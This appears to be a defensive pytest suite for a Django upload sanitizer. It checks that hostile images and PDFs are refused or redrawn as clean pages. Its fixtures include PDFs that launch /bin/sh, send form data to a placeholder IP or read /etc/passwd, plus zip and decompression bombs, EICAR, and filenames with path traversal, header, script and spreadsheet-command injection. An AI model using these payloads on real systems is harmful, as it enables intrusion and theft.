"""Hostile papers: each one ends as it should, and nothing of it but pixels comes through."""

import io
import zlib
from collections.abc import Callable
from typing import NamedTuple

import pytest
from django.core.exceptions import ValidationError
from django.test import override_settings
from PIL import Image

from requests.forms.papers import PapersField
from tests import hostile_files as made
from tests.fake_clamd import Clamd
from tests.papers import received
from verification import checks, clean_pages, redraw
from verification.models import Evidence, EvidenceKind, Paper, PaperState, WhyRefused
from verification.papers import kind_of

CANARY, SCRIPT, EICAR = made.CANARY, made.SCRIPT, made.EICAR


class Outcome(NamedTuple):
    """What becomes of a paper: turned away by the form, refused by the worker, or so many clean pages."""

    pages: int = 0
    refused: str = ""
    at_the_door: str = ""  # words of the form

    def __str__(self) -> str:
        return self.at_the_door or self.refused or f"{self.pages} pages"


ONE, TEN = Outcome(pages=1), Outcome(pages=10)
NO_PAPER = Outcome(at_the_door="neither a photo nor a PDF")
EMPTY = Outcome(at_the_door="is empty")
TOO_BIG = Outcome(at_the_door="is too big")
BROKEN, LOCKED, LARGE, HEAVY, MANY, INFECTED = (
    Outcome(refused=why)
    for why in (
        WhyRefused.NOT_READABLE,
        WhyRefused.LOCKED,
        WhyRefused.TOO_LARGE,
        WhyRefused.TOO_HEAVY,
        WhyRefused.TOO_MANY_PAGES,
        WhyRefused.INFECTED,
    )
)

XMP, BAD_EXIF = b"http://ns.adobe.com/xap/1.0/\0", b"Exif\0\0MM\0*\xff\xff\xff\xff"
Row = tuple[str, Callable[[], bytes], Outcome, str]

PHOTOS: list[Row] = [
    ("photo.jpg", made.jpeg, ONE, "as people send it"),
    ("scan.png", made.png, ONE, "as people send it"),
    ("photo.heic", made.heic, ONE, "as a telephone sends it, with a place in it"),
    ("place.jpg", lambda: made.jpeg(exif=made.place_and_camera()), ONE, "where it was taken goes"),
    ("place.png", lambda: made.png(exif=made.place_and_camera()), ONE, "the same in a PNG"),
    ("turned.jpg", lambda: made.jpeg(exif=made.place_and_camera(6)), ONE, "turned as the camera was held"),
    (
        "xmp.jpg",
        lambda: made.jpeg_with(made.segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + CANARY)),
        ONE,
        "XMP goes",
    ),
    ("iptc.jpg", lambda: made.jpeg_with(made.segment(0xED, b"Photoshop 3.0\0" + CANARY)), ONE, "IPTC goes"),
    ("icc.jpg", lambda: made.jpeg(icc_profile=CANARY * 100), ONE, "a colour profile that is none"),
    (
        "bad_exif.jpg",
        lambda: made.jpeg_with(made.segment(0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff" + CANARY)),
        ONE,
        "Exif",
    ),
    ("comment.jpg", lambda: made.jpeg_with(made.segment(0xFE, b"<?php " + SCRIPT)), ONE, "a program in a comment"),
    (
        "comments.jpg",
        lambda: made.jpeg_with(*[made.segment(0xFE, CANARY * 4000)] * 140),
        ONE,
        "eight megabytes of comment",
    ),
    ("text.png", made.png_with_text, ONE, "words beside the picture"),
    ("page.jpg", lambda: made.jpeg() + made.html(), ONE, "a JPEG that is a web page, too"),
    ("archive.jpg", lambda: made.jpeg() + made.zip_bomb(), ONE, "a JPEG that is an archive, too"),
    ("tail.png", lambda: made.png() + SCRIPT * 1000, ONE, "a PNG with a tail"),
    ("unknown_chunk.png", lambda: made.png_with(made.chunk(b"prVt", CANARY)), ONE, "a chunk that nobody knows"),
    ("cmyk.jpg", lambda: made.jpeg(made.drawn("CMYK")), ONE, "colours for print"),
    ("grey.jpg", lambda: made.jpeg(made.drawn("L")), ONE, "grey"),
    ("progressive.jpg", lambda: made.jpeg(progressive=True), ONE, "in several passes"),
    ("sixteen.png", lambda: made.png(made.drawn("I;16")), ONE, "16 bits a pixel"),
    ("palette.png", lambda: made.png(made.drawn("P"), transparency=0), ONE, "a palette to look through"),
    ("see_through.png", made.see_through, ONE, "white on nothing"),
    ("bilevel.png", lambda: made.png(made.drawn("1")), ONE, "black and white"),
    (
        "animated.png",
        lambda: made.png(save_all=True, append_images=[Image.new("RGB", (900, 600))] * 3),
        ONE,
        "the first picture of several",
    ),
    (
        "several.jpg",
        lambda: made.other("MPO", save_all=True, append_images=[Image.new("RGB", (900, 600))]),
        ONE,
        "two pictures in one JPEG",
    ),
    ("dot.png", lambda: made.png(Image.new("RGB", (1, 1))), ONE, "one pixel; marked as small"),
    ("thin.png", lambda: made.png(Image.new("RGB", (20_000, 2))), ONE, "very long and thin"),
    (
        "overflowing.png",
        lambda: made.png_of(900, 600, 8, 2, made.chunk(b"IDAT", made.zeros(200_000_000))),
        ONE,
        "two hundred megabytes behind a small picture are left alone",
    ),
    ("many_pixels.png", lambda: made.png_of(50_000, 50_000, 8, 2), LARGE, "2,500 million pixels, says its head"),
    ("many_pixels.jpg", lambda: made.jpeg_says(50_000, 50_000), LARGE, "the same in a JPEG"),
    (
        "bits.png",
        lambda: made.png_of(30_000, 30_000, 1, 0, made.chunk(b"IDAT", made.zeros(30_000 * 3751))),
        LARGE,
        "900 million pixels in 110 KB",
    ),
    (
        "memory.png",
        lambda: made.png_of(8000, 7900, 8, 6, made.chunk(b"IDAT", made.zeros(7900 * 32_001))),
        HEAVY,
        "just under the pixels, and twice the memory",
    ),
    (
        "text_bomb.png",
        lambda: made.png_with(made.chunk(b"zTXt", b"c\0\0" + made.zeros(100_000_000))),
        BROKEN,
        "a hundred megabytes of words in 100 KB",
    ),
    (
        "profile_bomb.png",
        lambda: made.png_with(made.chunk(b"iCCP", b"c\0\0" + made.zeros(100_000_000))),
        BROKEN,
        "the same as a colour profile",
    ),
    ("cut.jpg", lambda: made.jpeg()[:9000], BROKEN, "cut off"),
    ("cut.png", lambda: made.png()[:9000], BROKEN, "cut off"),
    ("cut.heic", lambda: made.heic()[:500], BROKEN, "cut off"),
    ("start.jpg", lambda: b"\xff\xd8\xff", BROKEN, "a beginning alone"),
    ("start.png", lambda: b"\x89PNG\r\n\x1a\n", BROKEN, "a beginning alone"),
    ("start.heic", lambda: b"\x00\x00\x00\x1cftypheic", BROKEN, "a beginning alone"),
    ("noise.png", lambda: b"\x89PNG\r\n\x1a\n" + zlib.compress(CANARY) * 500, BROKEN, "noise after the beginning"),
    ("noise.heic", lambda: b"\x00\x00\x00\x1cftypheic" + CANARY * 500, BROKEN, "noise after the beginning"),
    ("no_rows.png", lambda: made.png_of(900, 600, 8, 2), BROKEN, "a picture without a picture"),
    ("no_size.png", lambda: made.png_of(0, 0, 8, 2), BROKEN, "no width and no height"),
    ("no_size.jpg", lambda: made.jpeg_says(0, 0), BROKEN, "no width and no height"),
    (
        "wrong_sum.png",
        lambda: made.png_of(900, 600, 8, 2, made.chunk(b"IDAT", made.zeros(1_000_000), crc=1)),
        BROKEN,
        "a check sum that does not fit",
    ),
    (
        "cut_chunk.png",
        lambda: made.png()[:33] + b"\x7f\xff\xff\xffIDAT" + CANARY,
        BROKEN,
        "a chunk of two gigabytes, says its head",
    ),
]
PDFS: list[Row] = [
    ("letter.pdf", made.page_pdf, ONE, "as people send it"),
    ("scan.pdf", lambda: made.other("PDF"), ONE, "as a scanner makes it"),
    ("ten.pdf", lambda: made.pages_pdf(10), TEN, "as many pages as may be"),
    ("eleven.pdf", lambda: made.pages_pdf(11), MANY, "one too many"),
    ("ten_thousand.pdf", lambda: made.pages_pdf(10_000), MANY, "ten thousand pages"),
    ("filled_in.pdf", made.filled_in, ONE, "what somebody filled in is seen"),
    (
        "script.pdf",
        lambda: made.page_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\('canary-51c8e0d2'\\)) >>"),
        ONE,
        "a script that runs on opening does not",
    ),
    (
        "launch.pdf",
        lambda: made.page_pdf(b"/OpenAction << /S /Launch /F (/bin/sh) >>"),
        ONE,
        "a program to start is not started",
    ),
    (
        "address.pdf",
        lambda: made.page_pdf(b"/OpenAction << /S /URI /URI (http://203.0.113.7/canary-51c8e0d2) >>"),
        ONE,
        "an address to open is not opened",
    ),
    (
        "form.pdf",
        lambda: made.page_pdf(b"/AA << /WC << /S /SubmitForm /F (http://203.0.113.7/) >> >>"),
        ONE,
        "a form that sends itself does not",
    ),
    (
        "attachment.pdf",
        lambda: made.page_pdf(
            b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
            b"",
            made.SQUARE,
            b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
            made.stream(b"MZ" + CANARY * 100, b"/Type /EmbeddedFile"),
        ),
        ONE,
        "what is attached stays behind",
    ),
    (
        "far_away.pdf",
        lambda: made.page_pdf(
            b"",
            b"/Resources << /XObject << /X 5 0 R >> >>",
            b"/X Do",
            made.stream(b"", b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /F (/etc/passwd)"),
        ),
        ONE,
        "a picture in a file of ours is not fetched",
    ),
    ("hidden.pdf", lambda: made.page_pdf(b"", b"", b"3 Tr BT (canary-51c8e0d2) Tj ET"), ONE, "words that nobody sees"),
    ("archive.pdf", lambda: made.page_pdf() + made.zip_bomb(), ONE, "a PDF that is an archive, too"),
    ("page.pdf", lambda: made.page_pdf() + made.html(), ONE, "a PDF that is a web page, too"),
    ("locked.pdf", made.locked_pdf, LOCKED, "a password that nobody gave us"),
    ("drawings.pdf", lambda: made.drawings_in_drawings(9), HEAVY, "a thousand million drawings in 4 KB"),
    (
        "stream_bomb.pdf",
        lambda: made.page_pdf(
            b"",
            b"/Resources << /XObject << /X 5 0 R >> >>",
            b"600 0 0 600 0 0 cm /X Do",
            made.stream(
                zlib.compress(made.zeros(300_000_000), 9),
                b"/Type /XObject /Subtype /Image /Width 50000 /Height 50000 /BitsPerComponent 8 "
                b"/ColorSpace /DeviceGray /Filter [/FlateDecode /FlateDecode]",
            ),
        ),
        ONE,
        "300 megabytes in a few bytes: the picture is left out",
    ),
    (
        "odd_size.pdf",
        lambda: made.page_pdf(box=b"0 0 600 762.8001098632812"),
        ONE,
        "a page whose size is no round number, as telephones make them",
    ),
    ("wide.pdf", lambda: made.page_pdf(box=b"0 0 99999999 99999999"), BROKEN, "a page as wide as a country"),
    (
        "no_pages.pdf",
        lambda: made.pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Kids [] /Count 0 >>"),
        BROKEN,
        "none",
    ),
    (
        "circle.pdf",
        lambda: made.pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
        BROKEN,
        "pages that hold themselves",
    ),
    (
        "minus_pages.pdf",
        lambda: made.pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count -5 >>"),
        BROKEN,
        "fewer than no pages",
    ),
    (
        "nested.pdf",
        lambda: made.pdf(b"<< /Type /Catalog /Pages 2 0 R /X " + made.nested(1_000_000) + b" >>"),
        BROKEN,
        "a million boxes in boxes",
    ),
    ("start.pdf", lambda: b"%PDF-1.7\n", BROKEN, "a beginning alone"),
    ("noise.pdf", lambda: b"%PDF-1.7\n" + CANARY * 5000, BROKEN, "noise after the beginning"),
    ("cut.pdf", lambda: made.pages_pdf(3)[:150], BROKEN, "cut off"),
]
NO_PAPERS: list[Row] = [
    ("bomb.pdf", made.zip_bomb, NO_PAPER, "an archive under another name"),
    ("bomb.jpg", made.zip_bomb, NO_PAPER, "an archive under another name"),
    ("drawing.png", made.svg, NO_PAPER, "a drawing that can hold a script"),
    ("page.png", made.html, NO_PAPER, "a web page under another name"),
    ("both.jpg", made.gif_and_script, NO_PAPER, "a GIF that is a script, too"),
    ("picture.jpg", lambda: made.other("GIF"), NO_PAPER, "a kind that we did not ask for"),
    ("picture.png", lambda: made.other("TIFF"), NO_PAPER, "a kind that we did not ask for"),
    ("picture.heic", lambda: made.other("WEBP"), NO_PAPER, "a kind that we did not ask for"),
    ("picture.jpeg", lambda: made.other("BMP"), NO_PAPER, "a kind that we did not ask for"),
    ("film.heic", lambda: b"\x00\x00\x00\x18ftypisom" + CANARY * 100, NO_PAPER, "a film"),
    ("program.pdf", lambda: b"MZ\x90\x00" + CANARY * 100, NO_PAPER, "a program"),
    ("late.pdf", lambda: b"\n" * 100 + made.page_pdf(), NO_PAPER, "a PDF that begins as something else"),
    ("laughs.pdf", made.a_thousand_laughs, NO_PAPER, "a bomb of words"),
    ("print.pdf", lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) run", NO_PAPER, "a program for a printer"),
    ("words.jpg", lambda: CANARY, NO_PAPER, "words"),
    ("eicar.com", lambda: EICAR, NO_PAPER, "a virus that is no paper"),
    ("nothing.pdf", lambda: b"", EMPTY, "nothing"),
    ("big.jpg", lambda: made.padded(made.jpeg(), 10_000_001), TOO_BIG, "a byte too many"),
]
INFECTED_PAPERS: list[Row] = [
    ("eicar.jpg", lambda: made.jpeg() + EICAR, INFECTED, "a virus behind a photo"),
    ("eicar.pdf", lambda: made.page_pdf() + EICAR, INFECTED, "a virus behind a PDF"),
    ("eicar_and_lock.pdf", lambda: made.locked_pdf() + EICAR, INFECTED, "the scanner looks first"),
]
NAMES = [
    "../../../../etc/cron.d/photo.jpg",
    "..\\..\\windows\\photo.jpg",
    "/etc/passwd",
    "photo\u202egpj.exe",
    "photo\x00.jpg.exe",
    "photo\r\nSet-Cookie: a=b.jpg",
    "<img src=x onerror=alert(1)>.jpg",
    "x" * 300 + ".jpg",
    "=cmd|'/c calc'!A0.jpg",
    "CON.jpg",
    ".htaccess",
    "фото паспорта.jpg",
]
ROWS = PHOTOS + PDFS + NO_PAPERS + INFECTED_PAPERS


@pytest.fixture(scope="module")
def clamd():
    """A scanner that knows one virus."""
    with Clamd() as daemon:
        yield daemon


@pytest.fixture
def send(rosas_request, clamd) -> Callable[[str, bytes], Outcome]:
    """Rosa sends a paper by the form, and the worker has it drawn."""
    check = rosas_request.submission.check_made

    def sent(name: str, content: bytes) -> Outcome:
        try:
            (upload,) = PapersField().clean([received(name, content)])
        except ValidationError as why_not:
            return Outcome(at_the_door=why_not.messages[0])
        with override_settings(CLAMD_URL=clamd.address):
            checks.give_file(check, EvidenceKind.DOCUMENT, upload)
            clean_pages.draw_owed()
        paper = Paper.objects.get()
        assert paper.state != PaperState.WAITING
        assert Evidence.objects.get(kind=EvidenceKind.DOCUMENT).file is None, "the original is destroyed"
        return Outcome(pages=paper.pages_drawn, refused=paper.why_refused)

    return sent


def pages_of(paper: Paper) -> list[bytes]:
    return [b"".join(page.file.chunks()) for page in clean_pages.pages_kept(paper)]


@pytest.mark.parametrize(("name", "content", "expected", "what"), ROWS, ids=[f"{row[0]}: {row[3]}" for row in ROWS])
def test_a_paper_ends_as_it_should(send, name, content, expected, what, monkeypatch):
    if expected is HEAVY:
        monkeypatch.setattr(redraw, "CPU_SECONDS", 2)  # the same end, sooner
    outcome = send(name, content())
    if expected.at_the_door:
        assert expected.at_the_door in outcome.at_the_door
        assert not Paper.objects.exists()
        return
    assert outcome == expected
    for page in pages_of(Paper.objects.get()):
        assert CANARY not in page
        assert CANARY[:13] not in page
        image = Image.open(io.BytesIO(page), formats=["JPEG"])
        assert not image.getexif()
        assert set(image.info) == {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
        assert max(image.size) <= redraw.LONGEST_SIDE


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_whatever_a_paper_is_called_it_is_a_photo(send, name):
    assert send(name, made.jpeg()) == ONE


def test_there_are_enough_hostile_papers():
    assert len(ROWS) + len(NAMES) >= 60
    assert len({row[0] for row in ROWS}) == len(ROWS)


# --- What comes through ----------------------------------------------------------------------------------------
def seen(kind: str, content: bytes) -> Image.Image:
    (page,) = redraw.draw(kind, content)
    return Image.open(io.BytesIO(page.jpeg))


def test_a_photo_is_turned_as_the_camera_was_held():
    assert seen("jpg", made.jpeg()).size == (900, 600)
    assert seen("jpg", made.jpeg(exif=made.place_and_camera(6))).size == (600, 900)


def is_navy(colour: tuple[int, int, int]) -> bool:
    red, green, blue = colour
    return red < 40 and green < 40 and 90 < blue < 170


@pytest.mark.parametrize(
    ("kind", "content", "at"),
    [
        ("jpg", made.jpeg, (300, 250)),
        ("jpg", lambda: made.jpeg(made.drawn("CMYK")), (300, 250)),
        ("png", made.png, (300, 250)),
        ("png", made.see_through, (300, 250)),
        ("heic", made.heic, (100, 100)),
        ("pdf", made.page_pdf, (300, 1500)),
        ("pdf", made.filled_in, (500, 1300)),
    ],
)
def test_what_was_on_the_paper_is_on_the_page(kind, content, at):
    assert is_navy(seen(kind, content()).getpixel(at))


def test_sixteen_bits_become_eight_and_not_white():
    assert seen("png", made.png(made.drawn("I;16"))).convert("L").getextrema() != (255, 255)


def test_what_is_behind_a_see_through_place_is_white():
    assert seen("png", made.see_through()).getpixel((800, 500)) == (255, 255, 255)


def test_a_blank_page_and_a_small_picture_are_marked():
    (blank,) = redraw.draw("png", made.png(Image.new("RGB", (900, 600), "white")))
    (photo,) = redraw.draw("jpg", made.jpeg())
    (dot,) = redraw.draw("png", made.png(Image.new("RGB", (1, 1))))
    assert [(page.is_blank, page.is_small) for page in (blank, photo, dot)] == [
        (True, False),
        (False, False),
        (True, True),
    ]


@pytest.mark.parametrize("content", [b"", b"\xff\xd8", b"GIF89a", b"    ftypavif", b"\x89PNG\r\n\x1a"])
def test_what_does_not_begin_as_a_paper_is_none(content):
    assert kind_of(content) == ""
